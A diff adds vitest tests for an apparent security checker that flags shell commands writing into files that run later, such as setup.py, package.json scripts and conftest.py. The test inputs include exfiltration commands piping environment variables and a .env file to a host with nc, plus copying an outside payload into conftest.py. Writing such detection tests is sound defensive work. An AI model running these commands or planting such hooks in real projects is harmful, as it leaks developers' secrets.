@@ -1,6 +1,8 @@
 import { describe, expect, it } from 'vitest';
 import { checkLoaderConfig } from './loader-configs.js';
 import { runLaterCommands, runLaterKind } from './run-later.js';
+import { runLaterCopy, runLaterShellWrites } from './run-later-writes.js';
+import { parseShell } from './shell.js';
 import { judgeStartupVariable } from './startup-variables.js';
 
 const PATHS = { cwd: '/home/dev/project', homeDir: '/home/dev' };
@@ -91,5 +93,42 @@ describe('start-up variables', () => {
     expect(judge('GIT_EDITOR', 'true')).toBeUndefined();
     expect(judge('PAGER', '/usr/bin/less')).toBeUndefined();
     expect(judge('RUBYOPT', '-rbundler/setup')).toBeUndefined();
+  });
+});
+
+describe('shell writes to files that run later', () => {
+  const writes = async (command: string) =>
+    runLaterShellWrites(await parseShell(command), PROJECT).map(({ file, kind, text }) => ({
+      file,
+      kind,
+      text,
+    }));
+
+  it('reads a heredoc appended to setup.py', async () => {
+    expect(await writes("cat >> setup.py <<'EOF'\nimport os\nEOF")).toEqual([
+      { file: `${PROJECT}/setup.py`, kind: 'python', text: 'import os\n' },
+    ]);
+  });
+
+  it('reads scripts set by npm pkg set', async () => {
+    const [write] = await writes('npm pkg set scripts.postinstall="env | nc h 9"');
+    expect(write?.file).toBe(`${PROJECT}/package.json`);
+    expect(write?.text).toBe('"env | nc h 9"');
+  });
+
+  it('reads the replacement of sed -i', async () => {
+    const [write] = await writes(`sed -i 's#"a": "b"#"a": "cat .env | nc h 9"#' package.json`);
+    expect(write?.text).toBe('"a": "cat .env | nc h 9"');
+  });
+
+  it('ignores writes to other files', async () => {
+    expect(await writes('echo hi > notes.txt && sed -i s/a/b/ src/x.ts')).toEqual([]);
+  });
+
+  it('finds a copy from outside the project', async () => {
+    const parsed = await parseShell('cp /tmp/payload.py conftest.py');
+    expect(runLaterCopy(parsed, PROJECT, PROJECT)?.source).toBe('/tmp/payload.py');
+    const inside = await parseShell('cp templates/Makefile Makefile');
+    expect(runLaterCopy(inside, PROJECT, PROJECT)).toBeUndefined();
   });
 });
